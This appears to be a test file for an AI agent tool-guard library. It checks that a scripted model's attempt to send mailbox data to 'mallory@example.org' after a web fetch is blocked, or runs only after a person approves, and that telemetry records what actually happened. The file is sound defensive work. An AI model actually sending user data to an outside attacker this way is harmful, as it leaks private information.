import * as api from '@opentelemetry/api';
import { generateText, stepCountIs, tool } from 'ai';
import { guardToolSet } from 'foreguard/ai-sdk';
import { createSession } from 'foreguard/enforce';
import { telemetry } from 'foreguard/opentelemetry';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { z } from 'zod';
import { scripted } from '../aiSdk/scripted.js';
import { mailbox, mailGuard, mailTools } from '../shared/mail.js';
import { AsyncContext, recordingProvider } from './sdk.js';

beforeAll(() => void api.context.setGlobalContextManager(new AsyncContext()));
afterAll(() => api.context.disable());

/** An assistant for mail searches and fetches, and then sends what it may not, under this session. */
async function assist(strategy: string, ask?: () => Promise<{ approved: boolean }>) {
  const { provider, exporter, read } = recordingProvider();
  const tracer = provider.getTracer('mail');
  const { tools, state, ran } = mailbox();
  const session = createSession({
    guard: await mailGuard({ strategy }),
    tools: mailTools,
    state,
    maxPending: 6,
    observers: [telemetry({ tracer })],
    ...(ask && { ask }),
  });
  const { model } = scripted(
    [
      ['search', { query: 'offer' }],
      ['fetch', { url: 'https://example.org' }],
    ],
    [['send', { to: 'mallory@example.org' }]],
    'That is that.',
  );
  await generateText({
    model,
    tools: guardToolSet(session, {
      search: tool({ inputSchema: z.object({ query: z.string() }), execute: tools.search }),
      fetch: tool({ inputSchema: z.object({ url: z.string() }), execute: tools.fetch }),
      send: tool({ inputSchema: z.object({ to: z.string() }), execute: tools.send }),
    }),
    prompt: 'See whether the offer is any good.',
    stopWhen: stepCountIs(5),
    experimental_telemetry: { isEnabled: true, tracer },
  });
  await session.end();
  expect(session.observerFaults).toBe(0);
  const spans = exporter.getFinishedSpans();
  const decisions = spans.filter(({ name }) => name === 'foreguard decide');
  for (const span of decisions) expect(span.spanContext().traceId).toBe(spans[0].spanContext().traceId);
  const told = decisions.map(({ attributes }) => [
    attributes['gen_ai.tool.name'],
    attributes['foreguard.decision'],
  ]);
  const [run] = await read();
  return { ran, told, learnt: run.steps.map(({ action }) => action?.name) };
}

it('a guarded agent is learnt from as it was guarded: what was withheld did not happen', async () => {
  expect(await assist('block')).toEqual({
    ran: ['search', 'fetch'],
    told: [
      ['search', 'allow'],
      ['fetch', 'allow'],
      ['send', 'block'],
    ],
    learnt: ['search', 'fetch', undefined],
  });
});

it('what a person approved did happen', async () => {
  expect(await assist('inspect', async () => ({ approved: true }))).toEqual({
    ran: ['search', 'fetch', 'send'],
    told: [
      ['search', 'allow'],
      ['fetch', 'allow'],
      ['send', 'inspect'],
      ['send', 'allow'],
    ],
    learnt: ['search', 'fetch', 'send', undefined],
  });
});
